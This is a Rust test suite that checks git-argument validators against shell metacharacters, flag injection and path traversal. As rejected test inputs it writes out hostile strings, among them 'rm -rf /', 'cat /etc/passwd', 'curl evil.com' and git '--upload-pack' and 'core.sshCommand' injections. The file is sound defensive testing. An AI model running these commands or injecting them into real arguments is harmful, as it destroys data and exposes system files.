use codex_desktop::validate::{
    validate_arg_safe, validate_branch_name, validate_commit_sha, validate_git_file_path,
    validate_id, validate_limit,
};

// ==================== validate_arg_safe tests ====================

#[test]
fn test_validate_arg_safe_valid_inputs() {
    assert!(validate_arg_safe("hello").is_ok());
    assert!(validate_arg_safe("file.txt").is_ok());
    assert!(validate_arg_safe("path/to/file").is_ok());
    assert!(validate_arg_safe("my-file_name.rs").is_ok());
    assert!(validate_arg_safe("123").is_ok());
    assert!(validate_arg_safe("").is_ok()); // Empty is allowed
}

#[test]
fn test_validate_arg_safe_rejects_shell_metacharacters() {
    // Test each dangerous character
    assert!(validate_arg_safe("hello|world").is_err());
    assert!(validate_arg_safe("cmd;ls").is_err());
    assert!(validate_arg_safe("$(whoami)").is_err());
    assert!(validate_arg_safe("`id`").is_err());
    assert!(validate_arg_safe("a&b").is_err());
    assert!(validate_arg_safe("a<b").is_err());
    assert!(validate_arg_safe("a>b").is_err());
    assert!(validate_arg_safe("a(b)").is_err());
    assert!(validate_arg_safe("a\\b").is_err());
    assert!(validate_arg_safe("a\nb").is_err());
    assert!(validate_arg_safe("a\rb").is_err());
    assert!(validate_arg_safe("a\0b").is_err());
}

#[test]
fn test_validate_arg_safe_rejects_flag_injection() {
    assert!(validate_arg_safe("--exec").is_err());
    assert!(validate_arg_safe("--config=/etc/passwd").is_err());
    // Single "--" is allowed (used as argument separator)
    assert!(validate_arg_safe("--").is_ok());
}

// ==================== validate_branch_name tests ====================

#[test]
fn test_validate_branch_name_valid() {
    assert!(validate_branch_name("main").is_ok());
    assert!(validate_branch_name("feature/new-thing").is_ok());
    assert!(validate_branch_name("release-1.0.0").is_ok());
    assert!(validate_branch_name("fix_bug_123").is_ok());
    assert!(validate_branch_name("user/john/experiment").is_ok());
    assert!(validate_branch_name("v2.0").is_ok());
}

#[test]
fn test_validate_branch_name_rejects_empty() {
    assert!(validate_branch_name("").is_err());
}

#[test]
fn test_validate_branch_name_rejects_dangerous_start() {
    assert!(validate_branch_name("-branch").is_err());
    assert!(validate_branch_name(".hidden").is_err());
}

#[test]
fn test_validate_branch_name_rejects_path_traversal() {
    assert!(validate_branch_name("../etc/passwd").is_err());
    assert!(validate_branch_name("branch/../other").is_err());
}

#[test]
fn test_validate_branch_name_rejects_lock_suffix() {
    assert!(validate_branch_name("branch.lock").is_err());
}

#[test]
fn test_validate_branch_name_rejects_special_chars() {
    assert!(validate_branch_name("branch;ls").is_err());
    assert!(validate_branch_name("branch$(cmd)").is_err());
    assert!(validate_branch_name("branch`id`").is_err());
    assert!(validate_branch_name("branch|pipe").is_err());
    assert!(validate_branch_name("branch\nname").is_err());
    assert!(validate_branch_name("branch name").is_err()); // Space not allowed
}

#[test]
fn test_validate_branch_name_length_limit() {
    let long_name = "a".repeat(257);
    assert!(validate_branch_name(&long_name).is_err());

    let max_length_name = "a".repeat(256);
    assert!(validate_branch_name(&max_length_name).is_ok());
}

// ==================== validate_commit_sha tests ====================

#[test]
fn projects_test_validate_commit_sha_valid() {
    // Short SHA (7 chars)
    assert!(validate_commit_sha("abc1234").is_ok());
    // Full SHA (40 chars)
    assert!(validate_commit_sha("abc1234567890def1234567890abc1234567890a").is_ok());
    // Mixed case hex
    assert!(validate_commit_sha("AbCdEf1234567").is_ok());
}

#[test]
fn projects_test_validate_commit_sha_rejects_non_hex() {
    assert!(validate_commit_sha("abc123g").is_err()); // 'g' is not hex
    assert!(validate_commit_sha("abc123!").is_err());
    assert!(validate_commit_sha("abc 123").is_err());
    assert!(validate_commit_sha("abc;123").is_err());
}

#[test]
fn projects_test_validate_commit_sha_length_limits() {
    // Too short
    assert!(validate_commit_sha("abc123").is_err()); // 6 chars
    // Too long
    let too_long = "a".repeat(65);
    assert!(validate_commit_sha(&too_long).is_err());
}

// ==================== validate_git_file_path tests ====================

#[test]
fn test_validate_git_file_path_valid() {
    assert!(validate_git_file_path("file.txt").is_ok());
    assert!(validate_git_file_path("path/to/file.rs").is_ok());
    assert!(validate_git_file_path("my-file_name.txt").is_ok());
}

#[test]
fn test_validate_git_file_path_rejects_empty() {
    assert!(validate_git_file_path("").is_err());
}

#[test]
fn test_validate_git_file_path_rejects_null_bytes() {
    assert!(validate_git_file_path("file\0.txt").is_err());
}

#[test]
fn test_validate_git_file_path_rejects_shell_chars() {
    assert!(validate_git_file_path("file;rm -rf /").is_err());
    assert!(validate_git_file_path("file$(whoami)").is_err());
    assert!(validate_git_file_path("file|cat /etc/passwd").is_err());
}

// ==================== validate_id tests ====================

#[test]
fn test_validate_id_valid() {
    assert!(validate_id("abc123", "test").is_ok());
    assert!(validate_id("my-project_id", "test").is_ok());
    assert!(validate_id("a", "test").is_ok());
}

#[test]
fn validate_id_accepts_unicode_letters() {
    // Alphanumeric means Unicode letters and digits, not just ASCII.
    assert!(validate_id("héllo", "test").is_ok());
    assert!(validate_id("日本語", "test").is_ok());
    assert!(validate_id("a b", "test").is_err()); // space is not alphanumeric
}

#[test]
fn test_validate_id_rejects_empty() {
    assert!(validate_id("", "test").is_err());
}

#[test]
fn test_validate_id_rejects_special_chars() {
    assert!(validate_id("id;ls", "test").is_err());
    assert!(validate_id("id$(cmd)", "test").is_err());
    assert!(validate_id("id/path", "test").is_err());
    assert!(validate_id("id.name", "test").is_err());
}

#[test]
fn test_validate_id_length_limit() {
    let long_id = "a".repeat(257);
    assert!(validate_id(&long_id, "test").is_err());

    let max_id = "a".repeat(256);
    assert!(validate_id(&max_id, "test").is_ok());
}

// ==================== validate_limit tests ====================

#[test]
fn test_validate_limit_valid() {
    assert_eq!(validate_limit(1).unwrap(), 1);
    assert_eq!(validate_limit(100).unwrap(), 100);
    assert_eq!(validate_limit(1000).unwrap(), 1000);
}

#[test]
fn test_validate_limit_rejects_zero() {
    assert!(validate_limit(0).is_err());
}

#[test]
fn test_validate_limit_rejects_too_large() {
    assert!(validate_limit(1001).is_err());
    assert!(validate_limit(u32::MAX).is_err());
}

// ==================== Integration security tests ====================

#[test]
fn test_command_injection_prevention() {
    // These should all be rejected
    let injection_attempts = [
        "; rm -rf /",
        "| cat /etc/passwd",
        "$(whoami)",
        "`id`",
        "&& curl evil.com",
        "\n whoami",
        "--exec=bash",
    ];

    for attempt in injection_attempts {
        assert!(
            validate_arg_safe(attempt).is_err(),
            "Should reject injection attempt: {}",
            attempt
        );
    }
}

#[test]
fn test_branch_name_injection_prevention() {
    let injection_attempts = [
        "-c core.sshCommand=evil",
        "--upload-pack=evil",
        "$(curl evil.com)",
        "`curl evil.com`",
        "branch;ls",
        "../../../etc/passwd",
    ];

    for attempt in injection_attempts {
        assert!(
            validate_branch_name(attempt).is_err(),
            "Should reject branch injection: {}",
            attempt
        );
    }
}
